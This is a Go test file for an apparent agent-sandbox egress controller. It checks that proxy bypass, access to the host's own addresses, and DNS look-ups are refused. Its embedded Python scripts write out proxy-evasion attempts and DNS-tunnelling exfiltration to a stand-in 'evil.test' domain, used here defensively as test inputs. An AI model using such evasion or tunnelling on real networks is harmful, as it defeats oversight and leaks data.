package app

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/bailiff-dev/bailiff"
	"github.com/bailiff-dev/bailiff/api"
	"github.com/bailiff-dev/bailiff/backends/backendtest"
	"github.com/bailiff-dev/bailiff/internal/tests/awaittest"
)

// onAllAddresses is a server that counts who reaches it by any address of this machine.
func onAllAddresses(t *testing.T) (port string, heard *atomic.Int32) {
	t.Helper()
	heard = new(atomic.Int32)
	listener, err := net.Listen("tcp4", "0.0.0.0:0")
	must(t, err)
	counting := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		heard.Add(1)
		fmt.Fprint(w, "served")
	})
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: counting}}
	server.Start()
	t.Cleanup(server.Close)
	_, port, err = net.SplitHostPort(listener.Addr().String())
	must(t, err)
	return port, heard
}

// ownAddresses are those of IPv4 that this machine has, the bridge of the docker engine's
// containers among them.
func ownAddresses(t *testing.T) (all []string) {
	t.Helper()
	found, err := net.InterfaceAddrs()
	must(t, err)
	for _, one := range found {
		if ip := one.(*net.IPNet).IP.To4(); ip != nil {
			all = append(all, ip.String())
		}
	}
	return all
}

// bridge is the address of this machine that containers see as their gateway.
func bridge(t *testing.T) string {
	t.Helper()
	docker0, err := net.InterfaceByName("docker0")
	backendtest.Needs(t, "the bridge of the docker engine", err)
	addresses, err := docker0.Addrs()
	must(t, err)
	return addresses[0].(*net.IPNet).IP.String()
}

// withoutProxy tries addresses by programs that were told to take no proxy, each way in turn.
const withoutProxy = `import os, subprocess, sys, urllib.request
none = {"PATH": os.environ["PATH"]}
ways = {
    "NO_PROXY": (["curl", "-sS", "-m", "5"], os.environ | {"NO_PROXY": "*", "no_proxy": "*"}),
    "noproxy": (["curl", "-sS", "-m", "5", "--noproxy", "*"], os.environ),
    "env -i": (["env", "-i", "curl", "-sS", "-m", "5"], none),
}
for address in sys.stdin.read().split():
    for name, (argv, env) in ways.items():
        done = subprocess.run(argv + [address], env=env, capture_output=True, text=True)
        if done.returncode == 0:
            print(name, "reached", address, done.stdout)
    try:
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(address, timeout=5)
        print("urllib reached", address)
    except OSError:
        pass
print("by the way out:", subprocess.run(["curl", "-sS", "http://plain.test:PORT/"], capture_output=True, text=True).stdout)
`

// Where the way without a proxy is switched off, a program that takes none meets no network at all.
func TestAProgramThatTakesNoProxyReachesNothing(t *testing.T) {
	t.Parallel()
	for backend, section := range isolated {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			port, heard := onAllAddresses(t)
			s := startOffice(t, openDir(t), onePerson(t, section,
				"egress: {direct: false, hosts: {plain.test: 127.0.0.1}, own: [\"127.0.0.1:"+port+"\"]}",
				wayOut(t, "      plain.test: [{ports: ["+port+"], protocol: http}]\n")))
			words := []string{"http://plain.test:" + port + "/"}
			for _, address := range append(ownAddresses(t), "198.51.100.1") {
				words = append(words, "http://"+net.JoinHostPort(address, port)+"/")
			}
			a := answeredWithYes(t, s, withInput("s", strings.ReplaceAll(withoutProxy, "PORT", port), words...))
			if a.Output != "by the way out: served\n" || heard.Load() != 1 {
				t.Errorf("%s, it printed %q, and the server heard of %d requests", a.Message, a.Output, heard.Load())
			}
		})
	}
}

// A name whose row opens private addresses leads to none of this machine's own, and to the address of
// the bridge at the one port alone that its owner opened.
func TestNoNameLeadsToThisMachine(t *testing.T) {
	t.Parallel()
	gateway := bridge(t)
	for backend, section := range isolated {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			port, heard := onAllAddresses(t)
			open, served := onAllAddresses(t)
			var rows, hosts, names, addresses []string
			for i, address := range append(ownAddresses(t), gateway) {
				name := fmt.Sprintf("own%d.test", i)
				rows = append(rows, fmt.Sprintf("      %s: [{ports: [%s, %s], protocol: http, private: true}]\n", name, port, open))
				hosts, names = append(hosts, name+": "+address), append(names, name)
				addresses = append(addresses, "http://"+name+":"+port+"/")
			}
			folder, policies := shippedWith(t, "    network:\n      platforms: {}\n",
				"    network:\n      platforms: {cli: {network: egress, egress: ["+strings.Join(names, ", ")+"]}}\n")
			addRows(t, folder, strings.Join(rows, ""))
			s := startOffice(t, openDir(t), onePerson(t, section, policies,
				"egress: {hosts: {"+strings.Join(hosts, ", ")+"}, own: [\""+gateway+":"+open+"\"]}"))
			addresses = append(addresses, "http://"+names[len(names)-1]+":"+open+"/")
			a := ask(t, s.agent, reading("s", addresses...))
			wants(t, a, bailiff.Completed, "(floor.address, once)")
			if want := strings.Repeat("403 floor.address\n", len(names)) + "served\n"; a.Output != want {
				t.Errorf("it printed %q, want %q", a.Output, want)
			}
			if heard.Load() != 0 || served.Load() != 1 {
				t.Errorf("the servers heard of %d and %d requests, want none and one", heard.Load(), served.Load())
			}
			wantLogged(t, s.folder, a.DecisionID, "refused own0.test:"+port, "opened "+names[len(names)-1]+":"+open)
		})
	}
}

// questioned is a name server that counts the questions that it is asked, and knows nothing.
func questioned(t *testing.T) (address string, asked *atomic.Int32) {
	t.Helper()
	asked = new(atomic.Int32)
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { conn.Close() })
	go func() {
		question := make([]byte, 512)
		for {
			n, from, err := conn.ReadFrom(question)
			if err != nil {
				return
			}
			asked.Add(1)
			var m dnsmessage.Message
			if m.Unpack(question[:n]) != nil {
				continue
			}
			reply := dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true, RCode: dnsmessage.RCodeNameError},
				Questions: m.Questions}
			if text, err := reply.Pack(); err == nil {
				_, _ = conn.WriteTo(text, from)
			}
		}
	}()
	return conn.LocalAddr().String(), asked
}

// resolving looks names up in the ways that go round a resolver of the machine: by HTTPS, by TLS at
// port 853, and by packets and connections to port 53. It prints the rules of refusals.
const resolving = `import os, socket, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
for to in sys.stdin.read().split():
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=60)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to)).encode())
    head = s.recv(65536).decode()
    print(to, head.split()[1], next((l.split(": ")[1] for l in head.split("\r\n") if l.startswith("X-Bailiff-Rule")), "none"))
for server in ("127.0.0.1", "1.1.1.1", "8.8.8.8"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1)
        try:
            s.connect((server, 53))
            s.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\4data\4evil\4test\0\0\1\0\1")
            print(server, kind, "answered", s.recv(512))
        except OSError:
            pass
for i in range(200):
    for name in ("data%d.evil.test" % i, "data%d.plain.test" % i):
        try:
            print("resolved", socket.getaddrinfo(name, 443))
        except OSError:
            pass
said = set()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
for i in range(200):
    s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + 3 * (b"\77" + os.urandom(20).hex().encode() + bytes(23).replace(b"\0", b"x")) +
        b"\4evil\4test\0\0\20\0\1", ("127.128.0.53", 53))
    said.add(s.recv(512)[3] & 15)
print("texts", said, "allowed", bool(socket.getaddrinfo("plain.test", 443)))
`

// Data leaves by no look-up of a name: neither by resolvers that speak HTTPS or TLS, nor by the
// sidecar's.
func TestNoNameIsLookedUpByAWayOfTheSandboxsOwn(t *testing.T) {
	t.Parallel()
	for backend, section := range isolated {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			resolver, asked := questioned(t)
			s := startOffice(t, openDir(t), onePerson(t, section, "egress: {resolver: [\""+resolver+"\"]}",
				wayOut(t, "      plain.test: [{}]\n")))
			refused := []string{"dns.test:443", "data.dns.test:443", "plain.test:853", "dns.test:853", "1.1.1.1:443", "1.1.1.1:853",
				"8.8.8.8:53"}
			a := answeredWithYes(t, s, withInput("s", resolving, refused...))
			var want strings.Builder
			for _, to := range refused {
				rule := "egress.not_in_table"
				if strings.Contains(to, ".1.1") || strings.Contains(to, ".8.8") {
					rule = "egress.address"
				}
				fmt.Fprintf(&want, "%s 403 %s\n", to, rule)
			}
			want.WriteString("texts {3} allowed True\n")
			if a.Output != want.String() || asked.Load() != 0 {
				t.Errorf("%s, it printed %q, and the resolver was asked %d times", a.Message, a.Output, asked.Load())
			}
			ask(t, s.agent, reading("s", "http://plain.test/"))
			if asked.Load() == 0 {
				t.Error("the resolver is not asked about an allowed host either")
			}
		})
	}
}

// A freeze ends what is open in both directions, and nothing opens until the thaw.
func TestAFreezeEndsOpenConnections(t *testing.T) {
	t.Parallel()
	for backend, section := range isolated {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			listener, err := net.Listen("tcp", "127.0.0.1:0")
			must(t, err)
			t.Cleanup(func() { listener.Close() })
			begun, over := make(chan string, 3), make(chan error, 3)
			go func() {
				for {
					conn, err := listener.Accept()
					if err != nil {
						return
					}
					go func() {
						defer conn.Close()
						from := bufio.NewReader(conn)
						line, _ := from.ReadString('\n')
						begun <- line
						_, _ = io.WriteString(conn, "welcome\n")
						_, err := io.Copy(io.Discard, from)
						over <- err
					}()
				}
			}()
			service := listener.Addr().String()
			_, port, _ := strings.Cut(service, ":")
			folder, policies := shippedWith(t, "    network:\n      platforms: {}\n",
				"    network:\n      platforms: {cli: {network: egress, egress: [\"db.test:"+port+"\"]}}\n")
			addRows(t, folder, "      db.test: [{ports: ["+port+"], protocol: tcp}]\n")
			s := startOffice(t, openDir(t), onePerson(t, section, policies,
				"egress: {hosts: {db.test: 127.0.0.1}, own: [\""+service+"\"]}"))
			run := withInput("stopped", speaking, "db.test:"+port)
			command := run
			command.Args.Background, command.Args.Stdin = true, ""
			command.Args.Command = "echo db.test:" + port + " | " + run.Args.Command
			started := ask(t, s.agent, command)
			wants(t, started, bailiff.Completed, "Started in the background")
			asking := send(t.Context(), s.agent, run)
			for range 2 {
				if line := <-begun; line != "hello\n" {
					t.Fatalf("the server heard %q", line)
				}
			}
			_, err = s.operator.Freeze(t.Context(), api.Freezing{Kind: api.FreezeSession, ID: "stopped", Reason: "It is odd."})
			must(t, err)
			for range 2 {
				<-over
			}
			if a := asking.end(t); a.Status != bailiff.Interrupted || a.Code != bailiff.CodeFrozen {
				t.Errorf("what ran was answered %s %s: %s", a.Status, a.Code, a.Message)
			}
			wants(t, ask(t, s.agent, run), bailiff.Refused, "It is odd.")
			wantLogged(t, s.folder, started.DecisionID, "opened db.test:"+port, "closed db.test:"+port)
			must(t, s.operator.Thaw(t.Context(), api.FreezeSession, "stopped"))
			send(t.Context(), s.agent, run)
			if line := <-begun; line != "hello\n" {
				t.Errorf("after the thaw the server heard %q", line)
			}
			must(t, listener.Close())
		})
	}
}

// Where questions cannot be kept, a connection that needs one is refused at once and its agent told,
// and asked about once they can.
func TestAConnectionIsRefusedWhereItsQuestionCannotBeKept(t *testing.T) {
	t.Parallel()
	service, port := serving(t, func(r *http.Request) string { return "served " + r.URL.Path })
	for backend, section := range isolated {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			_, policies := shippedWith(t, "    network:\n      platforms: {}\n      ask_new_hosts: {}\n",
				"    network:\n      platforms: {cli: {network: egress, egress: [repo.example.com]}}\n      ask_new_hosts: {cli: true}\n")
			s := startOffice(t, openDir(t), onePerson(t, section, policies,
				"egress: {hosts: {one.test: 127.0.0.1}, own: [\""+service+"\"]}"))
			store := filepath.Join(s.folder, "state", "approvals.db")
			must(t, os.Rename(store, store+".away"))
			a := ask(t, s.agent, reading("s", "http://one.test:"+port+"/a"))
			wants(t, a, bailiff.Completed, "Refused on the way out: one.test:"+port)
			if !strings.HasPrefix(a.Output, "403 ") || a.Egress == nil || len(a.Egress.Blocked) != 1 {
				t.Errorf("it printed %q, and is told of %+v", a.Output, a.Egress)
			}
			wantLogged(t, s.folder, a.DecisionID, "refused one.test:"+port)
			must(t, os.Rename(store+".away", store))
			awaittest.Until(t, "the end of the freeze for want of a store", func() bool {
				return ask(t, s.agent, withInput("s", "print(1)")).Status == bailiff.Completed
			})
			asking := send(t.Context(), s.agent, reading("s", "http://one.test:"+port+"/b"))
			mustApprove(t, s.operator, asking.question(t), bailiff.ScopeOnce)
			if a = asking.end(t); a.Output != "served /b\n" {
				t.Errorf("once they can be kept it printed %q: %s", a.Output, a.Message)
			}
		})
	}
}
